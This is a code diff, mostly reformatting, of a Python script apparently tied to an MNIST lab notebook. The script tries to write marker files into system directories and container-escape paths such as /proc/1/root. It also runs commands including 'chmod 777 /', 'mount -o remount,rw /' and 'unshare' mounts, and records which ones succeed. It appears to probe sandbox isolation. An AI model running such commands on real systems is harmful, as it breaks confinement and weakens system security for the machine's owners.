@@ -10,9 +10,26 @@ from pathlib import Path
 import mnist_lab
 
 made = []
-places = ["/", "/etc", "/usr", "/usr/lib", "/handed-in", "/root", "/var/tmp", "/mnt", "OUTSIDE", "HERE", "HERE/tests",
-          sys.prefix, *mnist_lab.__path__, *(p for p in sys.path if p), os.environ.get("MNIST_LAB_DATA", "/"),
-          *(str(p) for p in Path(os.getcwd()).parents), "/proc/1/root", "/proc/self/root/.."]
+places = [
+    "/",
+    "/etc",
+    "/usr",
+    "/usr/lib",
+    "/handed-in",
+    "/root",
+    "/var/tmp",
+    "/mnt",
+    "OUTSIDE",
+    "HERE",
+    "HERE/tests",
+    sys.prefix,
+    *mnist_lab.__path__,
+    *(p for p in sys.path if p),
+    os.environ.get("MNIST_LAB_DATA", "/"),
+    *(str(p) for p in Path(os.getcwd()).parents),
+    "/proc/1/root",
+    "/proc/self/root/..",
+]
 for place in places:
     try:
         Path(place, "mnist-lab-was-here").write_text("x")
@@ -26,7 +43,14 @@ for place in places:
                 made.append(f"{place}/{victim}")
             except OSError:
                 pass
-for command in ("mount -o remount,rw /", "mount -t tmpfs none /mnt", "chmod 777 /", "unshare -r true", "su", "sudo -n true"):
+for command in (
+    "mount -o remount,rw /",
+    "mount -t tmpfs none /mnt",
+    "chmod 777 /",
+    "unshare -r true",
+    "unshare -rm mount -t tmpfs none /tmp",
+    "sudo -n true",
+):
     if os.system(f"{command} > /dev/null 2>&1 < /dev/null") == 0:
         made.append(command)
 # %% 1.1
